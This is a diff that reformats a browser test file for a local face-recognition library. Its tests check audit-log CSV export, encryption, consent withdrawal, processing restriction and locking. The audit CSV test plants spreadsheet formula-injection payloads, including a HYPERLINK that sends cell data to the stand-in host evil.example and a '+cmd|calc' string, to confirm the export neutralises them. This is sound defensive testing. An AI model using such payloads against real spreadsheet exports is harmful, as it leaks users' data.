@@ -3,7 +3,15 @@
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
 import { readFileSync, readdirSync } from 'node:fs';
-import { WatchedPage, facePath, giveConsent, launchBrowser, openHarness, readDeviceStorage, waitForApp } from './browser';
+import {
+  WatchedPage,
+  facePath,
+  giveConsent,
+  launchBrowser,
+  openHarness,
+  readDeviceStorage,
+  waitForApp,
+} from './browser';
 
 let browser: Browser;
 let harness: WatchedPage;
@@ -31,27 +39,38 @@ afterAll(async () => {
 
 /** Adds a row to a store of the database, directly (as another version of the app, or an attacker, might). */
 async function putDirect(database: string, store: string, value: unknown): Promise<void> {
-  await page.evaluate(async ({ database, store, value }) => {
-    const db = await new Promise<IDBDatabase>((resolve, reject) => {
-      const req = indexedDB.open(database);
-      req.onsuccess = () => resolve(req.result);
-      req.onerror = () => reject(req.error);
-    });
-    await new Promise<void>((resolve, reject) => {
-      const tx = db.transaction(store, 'readwrite');
-      tx.objectStore(store).put(value);
-      tx.oncomplete = () => resolve();
-      tx.onerror = () => reject(tx.error);
-    });
-    db.close();
-  }, { database, store, value });
+  await page.evaluate(
+    async ({ database, store, value }) => {
+      const db = await new Promise<IDBDatabase>((resolve, reject) => {
+        const req = indexedDB.open(database);
+        req.onsuccess = () => resolve(req.result);
+        req.onerror = () => reject(req.error);
+      });
+      await new Promise<void>((resolve, reject) => {
+        const tx = db.transaction(store, 'readwrite');
+        tx.objectStore(store).put(value);
+        tx.oncomplete = () => resolve();
+        tx.onerror = () => reject(tx.error);
+      });
+      db.close();
+    },
+    { database, store, value },
+  );
 }
 
 describe('audit CSV (item 9)', () => {
   it('neutralises cells a spreadsheet would run as formulas, and quotes every field', async () => {
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    await page.evaluate(async () => { window.lawful = await window.facelocal.openMatcher({ databaseName: 'lawful-csv' }); });
-    await putDirect('lawful-csv', 'audit', { id: 'planted', at: Date.now(), action: 'import', outcome: hostile, personId: '+cmd|calc' });
+    await page.evaluate(async () => {
+      window.lawful = await window.facelocal.openMatcher({ databaseName: 'lawful-csv' });
+    });
+    await putDirect('lawful-csv', 'audit', {
+      id: 'planted',
+      at: Date.now(),
+      action: 'import',
+      outcome: hostile,
+      personId: '+cmd|calc',
+    });
     const text = await page.evaluate(async () => (await window.lawful.exportAuditLog()).text());
     const lines = text.split('\r\n').filter(Boolean);
     expect(lines[0]).toBe('"time","action","outcome","personId"');
@@ -59,7 +78,9 @@ describe('audit CSV (item 9)', () => {
     const planted = lines.find((l) => l.includes('HYPERLINK'))!;
     expect(planted).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(planted.endsWith(`"'+cmd|calc"`)).toBe(true);
-    expect((await readDeviceStorage(page)).stores['lawful-csv/audit']).toContainEqual(expect.objectContaining({ id: 'planted', outcome: hostile }));
+    expect((await readDeviceStorage(page)).stores['lawful-csv/audit']).toContainEqual(
+      expect.objectContaining({ id: 'planted', outcome: hostile }),
+    );
     await page.evaluate(() => window.lawful.close()); // its workers must not stay loaded for the rest of the file
   });
 });
@@ -77,7 +98,9 @@ async function secondTab(): Promise<Page> {
 /** The payload kinds of every record of the payload stores, read straight from IndexedDB. */
 async function payloadKinds(database: string): Promise<string[]> {
   const { stores } = await readDeviceStorage(page);
-  return ['people', 'templates', 'importFaces'].flatMap((s) => ((stores[`${database}/${s}`] ?? []) as { payload: { kind: string } }[]).map((r) => r.payload.kind));
+  return ['people', 'templates', 'importFaces'].flatMap((s) =>
+    ((stores[`${database}/${s}`] ?? []) as { payload: { kind: string } }[]).map((r) => r.payload.kind),
+  );
 }
 
 describe('encryption that really encrypts (item 5)', () => {
@@ -87,22 +110,50 @@ describe('encryption that really encrypts (item 5)', () => {
     try {
       await page.evaluate(async (db) => {
         window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const consent = { subjectName: 'Obama', givenAt: Date.now(), purpose: 'photo-library' as const, purposeDetail: '', method: 'checkbox' as const, retention: { kind: 'days' as const, days: 30 }, collectedBy: 'Op' };
-        await window.lawful.enrol({ name: 'Obama', consent }, [new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg')]);
+        const consent = {
+          subjectName: 'Obama',
+          givenAt: Date.now(),
+          purpose: 'photo-library' as const,
+          purposeDetail: '',
+          method: 'checkbox' as const,
+          retention: { kind: 'days' as const, days: 30 },
+          collectedBy: 'Op',
+        };
+        await window.lawful.enrol({ name: 'Obama', consent }, [
+          new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg'),
+        ]);
       }, db);
-      const weak = await page.evaluate(async () => window.lawful.enableEncryption('password2026').then(() => null, (e) => ({ code: e.code, message: e.message })));
+      const weak = await page.evaluate(async () =>
+        window.lawful.enableEncryption('password2026').then(
+          () => null,
+          (e) => ({ code: e.code, message: e.message }),
+        ),
+      );
       expect(weak?.code).toBe('invalid-passphrase');
       expect(weak?.message).toMatch(/common password/);
 
       // The other tab starts a photo-library import; while it runs, encryption is refused here.
       await other.evaluate(async (db) => {
         window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const files = await Promise.all(['_group/facerec_obama_and_biden.jpg', '_group/faceapi_bbt1.jpg', '_group/faceapi_bbt2.jpg', '_group/faceapi_bbt3.jpg']
-          .map(async (f) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1])));
+        const files = await Promise.all(
+          [
+            '_group/facerec_obama_and_biden.jpg',
+            '_group/faceapi_bbt1.jpg',
+            '_group/faceapi_bbt2.jpg',
+            '_group/faceapi_bbt3.jpg',
+          ].map(async (f) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1])),
+        );
         const run = await window.lawful.imports.start(files);
         (window as unknown as { importDone: Promise<unknown> }).importDone = run.done;
       }, db);
-      const busy = await page.evaluate(async (pass) => window.lawful.enableEncryption(pass).then(() => null, (e) => ({ code: e.code, message: e.message })), PASS);
+      const busy = await page.evaluate(
+        async (pass) =>
+          window.lawful.enableEncryption(pass).then(
+            () => null,
+            (e) => ({ code: e.code, message: e.message }),
+          ),
+        PASS,
+      );
       expect(busy?.code).toBe('busy');
       expect(busy?.message).toMatch(/import is running/);
       expect(await page.evaluate(() => window.lawful.encryption.enabled)).toBe(false);
@@ -117,14 +168,31 @@ describe('encryption that really encrypts (item 5)', () => {
     const db = 'lawful-encryption';
     const other = await secondTab();
     try {
-      await other.evaluate(async (db) => { window.lawful = await window.facelocal.openMatcher({ databaseName: db }); }, db);
+      await other.evaluate(async (db) => {
+        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
+      }, db);
       // The other tab enrols while this one derives the key and seals: whichever lands first, nothing stays in clear.
       const [enabledMs, otherOutcome] = await Promise.all([
-        page.evaluate(async (pass) => { const t = performance.now(); await window.lawful.enableEncryption(pass); return performance.now() - t; }, PASS),
+        page.evaluate(async (pass) => {
+          const t = performance.now();
+          await window.lawful.enableEncryption(pass);
+          return performance.now() - t;
+        }, PASS),
         other.evaluate(async () => {
-          const consent = { subjectName: 'Biden', givenAt: Date.now(), purpose: 'photo-library' as const, purposeDetail: '', method: 'checkbox' as const, retention: { kind: 'days' as const, days: 30 }, collectedBy: 'Op' };
+          const consent = {
+            subjectName: 'Biden',
+            givenAt: Date.now(),
+            purpose: 'photo-library' as const,
+            purposeDetail: '',
+            method: 'checkbox' as const,
+            retention: { kind: 'days' as const, days: 30 },
+            collectedBy: 'Op',
+          };
           const photo = new File([await (await fetch('/__faces/biden/biden.jpg')).blob()], 'biden.jpg');
-          return window.lawful.enrol({ name: 'Biden', consent }, [photo]).then((r) => (r.person ? 'enrolled' : 'refused'), (e) => e.code as string);
+          return window.lawful.enrol({ name: 'Biden', consent }, [photo]).then(
+            (r) => (r.person ? 'enrolled' : 'refused'),
+            (e) => e.code as string,
+          );
         }),
       ]);
       expect(['enrolled', 'locked']).toContain(otherOutcome); // 'locked': it came after the switch and wrote nothing
@@ -132,16 +200,24 @@ describe('encryption that really encrypts (item 5)', () => {
       expect(kinds.length).toBeGreaterThan(0);
       expect(kinds.filter((k) => k !== 'sealed')).toEqual([]);
       const { stores } = await readDeviceStorage(page);
-      expect((stores[`${db}/settings`] as { params: { N: number; r: number } }[])[0].params).toMatchObject({ N: 2 ** 17, r: 8 });
+      expect((stores[`${db}/settings`] as { params: { N: number; r: number } }[])[0].params).toMatchObject({
+        N: 2 ** 17,
+        r: 8,
+      });
 
-      const unlockMs = await page.evaluate(async ({ db, pass }) => {
-        await window.lawful.close();
-        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const t = performance.now();
-        await window.lawful.unlock(pass);
-        return performance.now() - t;
-      }, { db, pass: PASS });
-      console.log(`scrypt N=2^17 r=8: enable (derive + seal) ${Math.round(enabledMs)} ms, unlock (derive + verify + load) ${Math.round(unlockMs)} ms`);
+      const unlockMs = await page.evaluate(
+        async ({ db, pass }) => {
+          await window.lawful.close();
+          window.lawful = await window.facelocal.openMatcher({ databaseName: db });
+          const t = performance.now();
+          await window.lawful.unlock(pass);
+          return performance.now() - t;
+        },
+        { db, pass: PASS },
+      );
+      console.log(
+        `scrypt N=2^17 r=8: enable (derive + seal) ${Math.round(enabledMs)} ms, unlock (derive + verify + load) ${Math.round(unlockMs)} ms`,
+      );
       const names = await page.evaluate(async () => (await window.lawful.listPeople()).map((p) => p.name));
       expect(names).toContain('Obama');
       if (otherOutcome === 'enrolled') expect(names).toContain('Biden');
@@ -152,8 +228,19 @@ describe('encryption that really encrypts (item 5)', () => {
 
   it('refuses on read a record planted in clear once encryption is on', async () => {
     const db = 'lawful-encryption';
-    await putDirect(db, 'people', { id: 'planted', createdAt: 0, updatedAt: 0, expiresAt: null, payload: { kind: 'plain', bytes: new Uint8Array([0x80]) } });
-    const error = await page.evaluate(async () => window.lawful.listPeople().then(() => null, (e) => ({ code: e.code, message: e.message })));
+    await putDirect(db, 'people', {
+      id: 'planted',
+      createdAt: 0,
+      updatedAt: 0,
+      expiresAt: null,
+      payload: { kind: 'plain', bytes: new Uint8Array([0x80]) },
+    });
+    const error = await page.evaluate(async () =>
+      window.lawful.listPeople().then(
+        () => null,
+        (e) => ({ code: e.code, message: e.message }),
+      ),
+    );
     expect(error?.code).toBe('tampered');
     expect(error?.message).toMatch(/unencrypted although encryption is on/);
     await page.evaluate(() => window.lawful.close());
@@ -161,24 +248,42 @@ describe('encryption that really encrypts (item 5)', () => {
 });
 
 const consentFor = (name: string, days: number | null = 30) => ({
-  subjectName: name, givenAt: Date.now(), purpose: 'photo-library' as const, purposeDetail: '', method: 'checkbox' as const,
-  retention: days === null ? { kind: 'until-withdrawn' as const } : { kind: 'days' as const, days }, collectedBy: 'Op',
+  subjectName: name,
+  givenAt: Date.now(),
+  purpose: 'photo-library' as const,
+  purposeDetail: '',
+  method: 'checkbox' as const,
+  retention: days === null ? { kind: 'until-withdrawn' as const } : { kind: 'days' as const, days },
+  collectedBy: 'Op',
 });
 
 describe('withdrawal sticks (item 4)', () => {
   it('an older export of a person who withdrew is refused, saying who and why; the tombstone holds nothing personal', async () => {
     const db = 'lawful-tombstones';
-    const result = await page.evaluate(async ({ db, consent }) => {
-      window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-      const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
-      const { person } = await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
-      const exported = await (await window.lawful.exportPerson(person!.id)).text();
-      await window.lawful.withdrawConsent(person!.id);
-      const refused = await window.lawful.importGallery(new Blob([exported])).then(() => null, (e) => ({ code: e.code, message: e.message }));
-      return { id: person!.id, refused, people: (await window.lawful.listPeople()).length, audit: (await window.lawful.auditLog()).map((e) => `${e.action}: ${e.outcome}`) };
-    }, { db, consent: consentFor('Barack Obama') });
+    const result = await page.evaluate(
+      async ({ db, consent }) => {
+        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
+        const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
+        const { person } = await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
+        const exported = await (await window.lawful.exportPerson(person!.id)).text();
+        await window.lawful.withdrawConsent(person!.id);
+        const refused = await window.lawful.importGallery(new Blob([exported])).then(
+          () => null,
+          (e) => ({ code: e.code, message: e.message }),
+        );
+        return {
+          id: person!.id,
+          refused,
+          people: (await window.lawful.listPeople()).length,
+          audit: (await window.lawful.auditLog()).map((e) => `${e.action}: ${e.outcome}`),
+        };
+      },
+      { db, consent: consentFor('Barack Obama') },
+    );
     expect(result.refused?.code).toBe('withdrawn');
-    expect(result.refused?.message).toMatch(/nothing was changed: people\.0 \(Barack Obama\): Barack Obama withdrew consent on \d{4}-\d\d-\d\d/);
+    expect(result.refused?.message).toMatch(
+      /nothing was changed: people\.0 \(Barack Obama\): Barack Obama withdrew consent on \d{4}-\d\d-\d\d/,
+    );
     expect(result.people).toBe(0);
     expect(result.audit).toContain('import: refused: a person in the file withdrew or was erased here');
     const { stores } = await readDeviceStorage(page);
@@ -201,15 +306,22 @@ describe('withdrawal sticks (item 4)', () => {
       const photo = new File([await (await fetch('/__faces/obama/obama1.jpg')).blob()], 'obama1.jpg');
       await source.enrol({ name: 'Barack Obama', consent }, [photo]);
       await source.close();
-      const open = (name: string, version?: number, upgrade?: (db: IDBDatabase) => void) => new Promise<IDBDatabase>((resolve, reject) => {
-        const req = version ? indexedDB.open(name, version) : indexedDB.open(name);
-        req.onupgradeneeded = () => upgrade?.(req.result);
-        req.onsuccess = () => resolve(req.result);
-        req.onerror = () => reject(req.error);
-      });
-      const all = (db: IDBDatabase, store: string) => new Promise<unknown[]>((resolve) => { db.transaction(store).objectStore(store).getAll().onsuccess = (e) => resolve((e.target as IDBRequest).result); });
+      const open = (name: string, version?: number, upgrade?: (db: IDBDatabase) => void) =>
+        new Promise<IDBDatabase>((resolve, reject) => {
+          const req = version ? indexedDB.open(name, version) : indexedDB.open(name);
+          req.onupgradeneeded = () => upgrade?.(req.result);
+          req.onsuccess = () => resolve(req.result);
+          req.onerror = () => reject(req.error);
+        });
+      const all = (db: IDBDatabase, store: string) =>
+        new Promise<unknown[]>((resolve) => {
+          db.transaction(store).objectStore(store).getAll().onsuccess = (e) => resolve((e.target as IDBRequest).result);
+        });
       const src = await open('lawful-v2-source');
-      const people = (await all(src, 'people')).map((p) => { const { importedFrom: _gone, ...v2 } = p as Record<string, unknown>; return v2; });
+      const people = (await all(src, 'people')).map((p) => {
+        const { importedFrom: _gone, ...v2 } = p as Record<string, unknown>;
+        return v2;
+      });
       const templates = await all(src, 'templates');
       const audit = await all(src, 'audit');
       src.close();
@@ -241,7 +353,13 @@ describe('withdrawal sticks (item 4)', () => {
       const check = await open('lawful-v2');
       const after = { version: check.version, stores: Array.from(check.objectStoreNames).sort() };
       check.close();
-      return { before, listed: listed.map((p) => ({ name: p.name, templateCount: p.templateCount, consent: p.consent.subjectName })), match, auditAfter, after };
+      return {
+        before,
+        listed: listed.map((p) => ({ name: p.name, templateCount: p.templateCount, consent: p.consent.subjectName })),
+        match,
+        auditAfter,
+        after,
+      };
     }, consentFor('Barack Obama'));
     expect(outcome.before).toMatchObject({ people: 1, templates: 1 });
     expect(outcome.listed).toEqual([{ name: 'Barack Obama', templateCount: 1, consent: 'Barack Obama' }]);
@@ -255,27 +373,50 @@ describe('withdrawal sticks (item 4)', () => {
 describe('restriction of processing (item 2)', () => {
   it('a restricted person is kept but never matched or shown, cannot get photos, until lifted; audited both ways', async () => {
     const db = 'lawful-restrict';
-    const r = await page.evaluate(async ({ db, obama, biden }) => {
-      const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
-      const file = async (f: string) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1]);
-      const { person } = await m.enrol({ name: 'Barack Obama', consent: obama }, [await file('obama/obama.jpg'), await file('obama/obama1.jpg')]);
-      await m.enrol({ name: 'Joe Biden', consent: biden }, [await file('biden/biden.jpg')]);
-      const id = person!.id;
-      const look = async () => {
-        const face = (await m.identify(await file('obama/obama3.jpg'))).faces[0];
-        const self = await m.selfCheck(await file('obama/obama2.jpg'));
-        return { match: face.match.kind === 'unknown' ? 'unknown' : face.match.personId, candidates: face.candidates.map((c) => c.personId), self: self.found ? self.name : null };
-      };
-      const before = await look();
-      const restricted = await m.restrictPerson(id, 'contests the match of 2 December');
-      const during = await look();
-      const addPhotos = await m.addPhotos(id, [await file('obama/obama2.jpg')]).then(() => 'added', (e) => e.code as string);
-      const listed = (await m.listPeople()).find((p) => p.id === id);
-      const lifted = await m.liftRestriction(id);
-      const after = await look();
-      const audit = (await m.auditLog()).filter((e) => e.personId === id).map((e) => e.action);
-      return { id, before, restricted: restricted.restriction, during, addPhotos, listed: listed && { restriction: listed.restriction, templateCount: listed.templateCount }, lifted: lifted.restriction, after, audit };
-    }, { db, obama: consentFor('Barack Obama'), biden: consentFor('Joe Biden') });
+    const r = await page.evaluate(
+      async ({ db, obama, biden }) => {
+        const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
+        const file = async (f: string) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1]);
+        const { person } = await m.enrol({ name: 'Barack Obama', consent: obama }, [
+          await file('obama/obama.jpg'),
+          await file('obama/obama1.jpg'),
+        ]);
+        await m.enrol({ name: 'Joe Biden', consent: biden }, [await file('biden/biden.jpg')]);
+        const id = person!.id;
+        const look = async () => {
+          const face = (await m.identify(await file('obama/obama3.jpg'))).faces[0];
+          const self = await m.selfCheck(await file('obama/obama2.jpg'));
+          return {
+            match: face.match.kind === 'unknown' ? 'unknown' : face.match.personId,
+            candidates: face.candidates.map((c) => c.personId),
+            self: self.found ? self.name : null,
+          };
+        };
+        const before = await look();
+        const restricted = await m.restrictPerson(id, 'contests the match of 2 December');
+        const during = await look();
+        const addPhotos = await m.addPhotos(id, [await file('obama/obama2.jpg')]).then(
+          () => 'added',
+          (e) => e.code as string,
+        );
+        const listed = (await m.listPeople()).find((p) => p.id === id);
+        const lifted = await m.liftRestriction(id);
+        const after = await look();
+        const audit = (await m.auditLog()).filter((e) => e.personId === id).map((e) => e.action);
+        return {
+          id,
+          before,
+          restricted: restricted.restriction,
+          during,
+          addPhotos,
+          listed: listed && { restriction: listed.restriction, templateCount: listed.templateCount },
+          lifted: lifted.restriction,
+          after,
+          audit,
+        };
+      },
+      { db, obama: consentFor('Barack Obama'), biden: consentFor('Joe Biden') },
+    );
 
     expect(r.before).toMatchObject({ match: r.id, self: 'Barack Obama' });
     expect(r.restricted).toMatchObject({ reason: 'contests the match of 2 December', since: expect.any(Number) });
@@ -313,7 +454,11 @@ describe('restriction of processing (item 2)', () => {
       await card.locator('[data-testid=message]', { hasText: 'Say why' }).waitFor();
       await card.locator('[data-testid=restrict-reason]').fill('contests a match');
       await card.locator('[data-testid=restrict-save]').click();
-      await ui.locator('[data-testid=person][data-restricted=true] [data-testid=person-restriction]', { hasText: 'contests a match' }).waitFor();
+      await ui
+        .locator('[data-testid=person][data-restricted=true] [data-testid=person-restriction]', {
+          hasText: 'contests a match',
+        })
+        .waitFor();
       await ui.locator('[data-testid=person][data-restricted=true] [data-testid=lift-restriction]').click();
       await ui.locator('[data-testid=person][data-name="Barack Obama"][data-restricted=false]').waitFor();
     } finally {
@@ -325,17 +470,25 @@ describe('restriction of processing (item 2)', () => {
 describe('consent receipts (item 1)', () => {
   it('a receipt at enrolment and at withdrawal, agreeing with the export', async () => {
     const db = 'lawful-receipts';
-    const r = await page.evaluate(async ({ db, consent }) => {
-      const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
-      const photo = new File([await (await fetch('/__faces/amy/amy1.png')).blob()], 'amy1.png');
-      const { person } = await m.enrol({ name: 'Amy', consent }, [photo]);
-      const given = await m.consentReceipt(person!.id);
-      const again = await m.consentReceipt(person!.id);
-      const exported = JSON.parse(await (await m.exportPerson(person!.id)).text());
-      const withdrawn = await m.withdrawConsent(person!.id);
-      return { id: person!.id, given, againId: again.receiptId, exported: exported.people[0], withdrawn };
-    }, { db, consent: { ...consentFor('Amy Farrah Fowler', 365), purposeDetail: 'Lab access' } });
-    expect(r.given.json).toMatchObject({ version: 'KI-CR-v1.1.0', piiPrincipalId: 'Amy Farrah Fowler', piiControllers: [{ piiController: 'Op' }], sensitive: true });
+    const r = await page.evaluate(
+      async ({ db, consent }) => {
+        const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
+        const photo = new File([await (await fetch('/__faces/amy/amy1.png')).blob()], 'amy1.png');
+        const { person } = await m.enrol({ name: 'Amy', consent }, [photo]);
+        const given = await m.consentReceipt(person!.id);
+        const again = await m.consentReceipt(person!.id);
+        const exported = JSON.parse(await (await m.exportPerson(person!.id)).text());
+        const withdrawn = await m.withdrawConsent(person!.id);
+        return { id: person!.id, given, againId: again.receiptId, exported: exported.people[0], withdrawn };
+      },
+      { db, consent: { ...consentFor('Amy Farrah Fowler', 365), purposeDetail: 'Lab access' } },
+    );
+    expect(r.given.json).toMatchObject({
+      version: 'KI-CR-v1.1.0',
+      piiPrincipalId: 'Amy Farrah Fowler',
+      piiControllers: [{ piiController: 'Op' }],
+      sensitive: true,
+    });
     expect(r.given.json.services[0].purposes[0].piiCategory.join(' ')).toMatch(/face template.*face thumbnail/);
     expect(r.againId).toBe(r.given.receiptId);
     // The export carries the same receipt, built from the same consent record.
@@ -356,7 +509,9 @@ describe('consent receipts (item 1)', () => {
       await waitForApp(ui);
       await ui.click('[data-testid=tab-people]');
       await ui.fill('[data-testid=person-name]', 'Penny');
-      await ui.setInputFiles('[data-testid=person-photos]', [facePath('penny/' + readdirSync(facePath('penny')).sort()[0])]);
+      await ui.setInputFiles('[data-testid=person-photos]', [
+        facePath('penny/' + readdirSync(facePath('penny')).sort()[0]),
+      ]);
       await giveConsent(ui);
       await ui.click('[data-testid=enrol-submit]');
       await ui.locator('[data-testid=enrolled-receipt]').waitFor({ timeout: 60_000 });
@@ -385,21 +540,30 @@ describe('locks that lock (item 5)', () => {
     const db = 'lawful-locks';
     const other = await secondTab();
     try {
-      await page.evaluate(async ({ db, consent, pass }) => {
-        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
-        await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
-        await window.lawful.enableEncryption(pass);
-      }, { db, consent: consentFor('Barack Obama'), pass: PASS });
-      const otherBefore = await other.evaluate(async ({ db, pass }) => {
-        const reasons: string[] = [];
-        (window as unknown as { reasons: string[] }).reasons = reasons;
-        window.lawful = await window.facelocal.openMatcher({ databaseName: db, onGalleryChange: (r) => reasons.push(r) });
-        const lockedAtOpen = window.lawful.encryption.locked;
-        await window.lawful.unlock(pass);
-        const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
-        return { lockedAtOpen, match: (await window.lawful.identify(probe)).faces[0].match.kind };
-      }, { db, pass: PASS });
+      await page.evaluate(
+        async ({ db, consent, pass }) => {
+          window.lawful = await window.facelocal.openMatcher({ databaseName: db });
+          const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
+          await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
+          await window.lawful.enableEncryption(pass);
+        },
+        { db, consent: consentFor('Barack Obama'), pass: PASS },
+      );
+      const otherBefore = await other.evaluate(
+        async ({ db, pass }) => {
+          const reasons: string[] = [];
+          (window as unknown as { reasons: string[] }).reasons = reasons;
+          window.lawful = await window.facelocal.openMatcher({
+            databaseName: db,
+            onGalleryChange: (r) => reasons.push(r),
+          });
+          const lockedAtOpen = window.lawful.encryption.locked;
+          await window.lawful.unlock(pass);
+          const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
+          return { lockedAtOpen, match: (await window.lawful.identify(probe)).faces[0].match.kind };
+        },
+        { db, pass: PASS },
+      );
       expect(otherBefore).toEqual({ lockedAtOpen: true, match: 'known' });
 
       await page.evaluate(() => window.lawful.lock());
@@ -408,8 +572,14 @@ describe('locks that lock (item 5)', () => {
         const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
         return {
           reasons: (window as unknown as { reasons: string[] }).reasons,
-          list: await window.lawful.listPeople().then(() => 'listed', (e) => e.code),
-          identify: await window.lawful.identify(probe).then(() => 'identified', (e) => e.code),
+          list: await window.lawful.listPeople().then(
+            () => 'listed',
+            (e) => e.code,
+          ),
+          identify: await window.lawful.identify(probe).then(
+            () => 'identified',
+            (e) => e.code,
+          ),
         };
       });
       expect(otherAfter).toEqual({ reasons: ['locked'], list: 'locked', identify: 'locked' });
@@ -421,7 +591,12 @@ describe('locks that lock (item 5)', () => {
       }, PASS);
       await page.waitForFunction(() => window.lawful.encryption.locked, undefined, { timeout: 30_000 });
       expect(await page.evaluate(() => window.lawful.autoLockSetting())).toEqual({ idleMs: 1500, whenHidden: false });
-      const tooShort = await page.evaluate(() => window.lawful.setAutoLock({ idleMs: 5, whenHidden: false }).then(() => null, (e) => e.code));
+      const tooShort = await page.evaluate(() =>
+        window.lawful.setAutoLock({ idleMs: 5, whenHidden: false }).then(
+          () => null,
+          (e) => e.code,
+        ),
+      );
       expect(tooShort).toBe('invalid-setting');
 
       // Hidden: the page going to the background locks at once.
@@ -455,24 +630,40 @@ describe('persistent storage (item 7)', () => {
       const r = await p.evaluate(async (consent) => {
         const calls: boolean[] = [];
         const real = navigator.storage.persist.bind(navigator.storage);
-        navigator.storage.persist = async () => { const granted = await real(); calls.push(granted); return granted; };
+        navigator.storage.persist = async () => {
+          const granted = await real();
+          calls.push(granted);
+          return granted;
+        };
         const before = await navigator.storage.persisted();
         const m = await window.facelocal.openMatcher();
         const file = async (f: string) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1]);
         const afterOpen = calls.length;
-        await m.enrol({ name: 'Howard', consent: { ...consent, subjectName: 'Howard' } }, [await file('howard/' + 'howard1.png')]);
+        await m.enrol({ name: 'Howard', consent: { ...consent, subjectName: 'Howard' } }, [
+          await file('howard/' + 'howard1.png'),
+        ]);
         const afterFirst = calls.length;
         await m.enrol({ name: 'Raj', consent: { ...consent, subjectName: 'Raj' } }, [await file('raj/raj1.png')]);
         const state = await m.storagePersistence();
         await m.close();
-        return { before, afterOpen, afterFirst, afterSecond: calls.length, granted: calls[0], state, now: await navigator.storage.persisted() };
+        return {
+          before,
+          afterOpen,
+          afterFirst,
+          afterSecond: calls.length,
+          granted: calls[0],
+          state,
+          now: await navigator.storage.persisted(),
+        };
       }, consentFor('Howard'));
       expect(r.before).toBe(false);
       expect(r.afterOpen).toBe(0);
       expect(r.afterFirst).toBe(1);
       expect(r.afterSecond).toBe(1);
       expect(r.state.persisted).toBe(r.now);
-      expect(r.state.message).toMatch(r.now ? /granted: the browser will not erase/ : /not granted: .*may erase the whole gallery/);
+      expect(r.state.message).toMatch(
+        r.now ? /granted: the browser will not erase/ : /not granted: .*may erase the whole gallery/,
+      );
       console.log(`persistent storage in headless Chromium: ${r.granted ? 'granted' : 'not granted'}`);
 
       await p.goto(inject('baseUrl'));
@@ -492,23 +683,35 @@ describe('encrypted exports (item 6)', () => {
   // default two minutes on a loaded 2-core machine (it failed only in full runs). Matchers the earlier tests left
   // open (their workers and models) are now closed too.
   it('an export sealed under a chosen passphrase reads as nothing, and imports only with that passphrase', async () => {
-    const r = await page.evaluate(async ({ consent, pass }) => {
-      const m = await window.facelocal.openMatcher({ databaseName: 'lawful-export-from' });
-      const photo = new File([await (await fetch('/__faces/kit_harington/john1.jpeg')).blob()], 'john1.jpeg');
-      const { person } = await m.enrol({ name: 'Kit Harington', consent }, [photo]);
-      const weak = await m.exportGallery({ passphrase: 'kit12345' }).then(() => null, (e) => e.code);
-      const sealed = await (await m.exportPerson(person!.id, { passphrase: pass })).text();
-      await m.close();
-      const to = await window.facelocal.openMatcher({ databaseName: 'lawful-export-to' });
-      const file = new Blob([sealed]);
-      const without = await to.importGallery(file).then(() => null, (e) => e.code);
-      const wrong = await to.importGallery(file, { passphrase: 'wrong horse battery staple' }).then(() => null, (e) => e.code);
-      const peopleAfterRefusals = (await to.listPeople()).length;
-      const imported = (await to.importGallery(file, { passphrase: pass })).map((p) => p.name);
-      const audit = (await to.auditLog()).map((e) => e.outcome);
-      await to.close();
-      return { weak, sealed, without, wrong, peopleAfterRefusals, imported, audit };
-    }, { consent: consentFor('Kit Harington'), pass: PASS });
+    const r = await page.evaluate(
+      async ({ consent, pass }) => {
+        const m = await window.facelocal.openMatcher({ databaseName: 'lawful-export-from' });
+        const photo = new File([await (await fetch('/__faces/kit_harington/john1.jpeg')).blob()], 'john1.jpeg');
+        const { person } = await m.enrol({ name: 'Kit Harington', consent }, [photo]);
+        const weak = await m.exportGallery({ passphrase: 'kit12345' }).then(
+          () => null,
+          (e) => e.code,
+        );
+        const sealed = await (await m.exportPerson(person!.id, { passphrase: pass })).text();
+        await m.close();
+        const to = await window.facelocal.openMatcher({ databaseName: 'lawful-export-to' });
+        const file = new Blob([sealed]);
+        const without = await to.importGallery(file).then(
+          () => null,
+          (e) => e.code,
+        );
+        const wrong = await to.importGallery(file, { passphrase: 'wrong horse battery staple' }).then(
+          () => null,
+          (e) => e.code,
+        );
+        const peopleAfterRefusals = (await to.listPeople()).length;
+        const imported = (await to.importGallery(file, { passphrase: pass })).map((p) => p.name);
+        const audit = (await to.auditLog()).map((e) => e.outcome);
+        await to.close();
+        return { weak, sealed, without, wrong, peopleAfterRefusals, imported, audit };
+      },
+      { consent: consentFor('Kit Harington'), pass: PASS },
+    );
     expect(r.weak).toBe('invalid-passphrase');
     const envelope = JSON.parse(r.sealed);
